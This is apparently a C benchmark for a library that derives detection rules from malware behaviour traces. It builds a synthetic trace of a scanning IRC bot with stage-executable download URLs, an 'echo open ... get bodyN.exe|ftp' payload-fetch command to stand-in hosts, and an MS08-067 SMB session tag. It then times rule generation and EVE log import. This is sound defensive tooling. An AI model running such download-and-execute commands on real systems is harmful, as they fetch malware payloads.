/* From a trace to rules: a busy bot with dozens of servers, files and ports, whose behaviours give
 * at least 200 candidates with rules in every language; where the time goes, and how fast logs of
 * others are read. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "remedy/remedy.h"

#define CANDIDATES 200
#define ROUNDS	   5
#define LINES	   200000

static bool json;

static void print(const char *name, double value, const char *unit)
{
	if (json)
		printf("{\"bench\":\"remedy\",\"case\":\"%s\",\"value\":%.6g,\"unit\":\"%s\","
		       "\"peer\":null,"
		       "\"peer_value\":null,\"ratio\":null}\n",
		       name, value, unit);
	else
		printf("%-64s %12.4g %s\n", name, value, unit);
}

static double now(void)
{
	struct timespec time;
	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + 1e-9 * (double)time.tv_nsec;
}

static void add(struct trace_sink *sink, enum trace_kind kind, uint64_t time, const char *first,
		struct trace_value second, const char *third, const char *fourth, const char *fifth)
{
	struct trace_event event = { .kind = kind, .time = time, .process = 1 };

	event.values[0] = trace_text(first);
	event.values[1] = second;
	event.values[2] = trace_text(third);
	event.values[3] = trace_text(fourth);
	event.values[4] = trace_text(fifth);
	trace_emit(sink, &event);
}

static void add_servers(struct trace_sink *sink, unsigned i)
{
	char address[32], text[96];

	snprintf(address, sizeof address, "203.0.113.%u", i + 1);
	snprintf(text, sizeof text, "JOIN #channel%u", i);
	add(sink, TRACE_NET_SEND, i, address, trace_number(6667 + i % 3), "tcp", "", text);
	snprintf(text, sizeof text, "http://files%u.example.net/stage%u.exe", i, i);
	add(sink, TRACE_NET_DOWNLOAD, i, text, trace_text("stage.exe"), "", "", "");
	snprintf(text, sizeof text, "open 198.51.100.%u %u get body%u.exe", i + 1, 5000 + i, i);
	char command[128];
	snprintf(command, sizeof command, "echo %s|ftp", text);
	add(sink, TRACE_SHELL_COMMAND, i, command, trace_text(""), "", "", "");
	snprintf(text, sizeof text, "mutex-%u", i);
	add(sink, TRACE_MUTEX_CREATE, i, text, trace_text(""), "", "", "");
}

/* 50,000 connections, as a minute of a fast scanner gives, among them. */
static struct trace_log *make_trace(void)
{
	struct trace_log *log = trace_log_new((size_t)256 << 20);
	struct trace_sink sink = trace_log_sink(log);
	struct random random;

	add(&sink, TRACE_SESSION, 0, "192.0.2.7", trace_number(445), "tcp", "smb", "MS08-067");
	for (unsigned i = 0; i < 24; i++)
		add_servers(&sink, i);
	random_init(&random, 1, 0);
	for (unsigned i = 0; i < 50000; i++) {
		struct address target = address_v4(random_u32(&random));
		char text[ADDRESS_TEXT_SIZE];
		add(&sink, TRACE_NET_CONNECT, 1000 + i, address_text(&target, text),
		    trace_number(445), "tcp", "refused", "");
	}
	return log;
}

struct times {
	double behaviours, derive;
	size_t candidates, rules;
};

static int derive_once(const struct remedy_knowledge *knowledge, const struct trace_log *log,
		       struct times *times, struct error *error)
{
	static const char *const source[] = { "bench" };
	struct remedy_candidates candidates;
	json_t *behaviours;
	double start = now();
	int result = remedy_behaviours(knowledge, &log, source, 1, &behaviours, error);

	if (result < 0)
		return result;
	double middle = now();
	result = remedy_derive(knowledge, behaviours, &candidates, error);
	json_decref(behaviours);
	if (result < 0)
		return result;
	double end = now();
	if (times->behaviours <= 0 || middle - start < times->behaviours)
		times->behaviours = middle - start;
	if (times->derive <= 0 || end - middle < times->derive)
		times->derive = end - middle;
	times->candidates = candidates.count;
	times->rules = 0;
	for (size_t i = 0; i < candidates.count; i++)
		times->rules += candidates.items[i].rule_count;
	remedy_candidates_fini(&candidates);
	return 0;
}

static void measure_import(void)
{
	struct buffer text;
	struct trace_import import;
	struct error error;

	buffer_init(&text, (size_t)200 << 20);
	for (unsigned i = 0; i < LINES; i++)
		buffer_printf(&text,
			      "{\"timestamp\":\"2024-05-01T12:%02u:%02u.%06u+0000\",\"flow_id\":%u,"
			      "\"event_type\":\"flow\",\"src_ip\":\"10.0.%u.%u\",\"src_port\":%u,"
			      "\"dest_ip\":\"198.51.%u.%u\",\"dest_port\":445,\"proto\":\"TCP\","
			      "\"flow\":{\"pkts_toserver\":3,\"state\":\"new\"}}\n",
			      i / 6000 % 60, i / 100 % 60, i % 1000000, i + 1, i % 16, i % 200,
			      1024 + i % 60000, i / 256 % 256, i % 256);
	double start = now();
	if (trace_import(buffer_bytes(&text), "bench", NULL, &import, &error) < 0) {
		log_error(&error);
	} else {
		double seconds = now() - start;
		print("EVE log into traces: lines", LINES / seconds, "lines/s");
		print("EVE log into traces: bytes", (double)text.length / seconds / 1e6, "MB/s");
		trace_import_fini(&import);
	}
	buffer_fini(&text);
}

int main(int count, char **arguments)
{
	struct remedy_knowledge *knowledge;
	struct times times = { .candidates = 0 };
	struct error error;

	json = count > 1 && strcmp(arguments[1], "--json") == 0;
	double start = now();
	if (remedy_load(NULL, &knowledge, &error) < 0) {
		log_error(&error);
		return 1;
	}
	double load = now() - start;
	struct trace_log *log = make_trace();
	for (int i = 0; i < ROUNDS; i++)
		if (derive_once(knowledge, log, &times, &error) < 0) {
			log_error(&error);
			return 1;
		}
	if (times.candidates < CANDIDATES) {
		fprintf(stderr, "bench: only %zu candidates, wanted %d\n", times.candidates,
			CANDIDATES);
		return 1;
	}
	print("knowledge loaded and checked", 1000 * load, "ms");
	print("trace of 50,000 connections to behaviours", 1000 * times.behaviours, "ms");
	print("behaviours to candidates, all rules rendered", 1000 * times.derive, "ms");
	print("candidates", (double)times.candidates, "");
	print("rules", (double)times.rules, "");
	print("trace to loadable rules, for 200 candidates",
	      load + times.behaviours + times.derive * CANDIDATES / (double)times.candidates, "s");
	measure_import();
	trace_log_free(log);
	remedy_knowledge_free(knowledge);
	return 0;
}
